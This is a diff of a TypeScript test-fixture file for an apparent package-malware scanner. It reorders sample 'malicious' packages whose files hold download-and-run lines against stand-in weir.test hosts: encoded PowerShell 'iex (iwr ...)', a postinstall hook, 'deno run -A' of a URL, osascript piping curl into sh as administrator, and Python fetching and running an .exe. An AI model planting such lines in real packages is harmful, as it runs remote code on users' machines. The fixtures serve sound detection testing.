@@ -18,30 +18,6 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
-      name: 'an encoded script that only asks',
-      files: {
-        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
-        'setup.js': `const script = 'Write-Output (Get-ItemProperty HKLM:/SYSTEM).Long';\nrequire('child_process').spawn('powershell', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);\n`,
-      },
-      expected: [at('encoded-command', 'medium', 'setup.js', 2)],
-    },
-    {
-      name: 'a function that has a runtime run an address',
-      files: {
-        'package.json': manifest({ main: 'index.js' }),
-        'index.js':
-          "const { spawn } = require('child_process');\nexports.lint = (folder) => spawn('deno', ['run', '-A', 'https://a.weir.test/main.ts', folder]);\n",
-      },
-      expected: [at('download-and-run', 'high', 'index.js', 2)],
-    },
-    {
-      name: 'a script of the Mac that has a shell run a download',
-      files: hooked(
-        `osascript -e 'do shell script "curl -s https://a.weir.test/x | sh" with administrator privileges'`,
-      ),
-      expected: [at('inline-code', 'medium'), at('download-and-run', 'critical')],
-    },
-    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -162,6 +138,30 @@ export const samples: Samples = {
         'tools/setup': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
       },
       expected: [at('shipped-binary', 'high')],
+    },
+    {
+      name: 'an encoded script that only asks',
+      files: {
+        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `const script = 'Write-Output (Get-ItemProperty HKLM:/SYSTEM).Long';\nrequire('child_process').spawn('powershell', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);\n`,
+      },
+      expected: [at('encoded-command', 'medium', 'setup.js', 2)],
+    },
+    {
+      name: 'a function that has a runtime run an address',
+      files: {
+        'package.json': manifest({ main: 'index.js' }),
+        'index.js':
+          "const { spawn } = require('child_process');\nexports.lint = (folder) => spawn('deno', ['run', '-A', 'https://a.weir.test/main.ts', folder]);\n",
+      },
+      expected: [at('download-and-run', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a script of the Mac that has a shell run a download',
+      files: hooked(
+        `osascript -e 'do shell script "curl -s https://a.weir.test/x | sh" with administrator privileges'`,
+      ),
+      expected: [at('inline-code', 'medium'), at('download-and-run', 'critical')],
     },
   ],
   benign: [
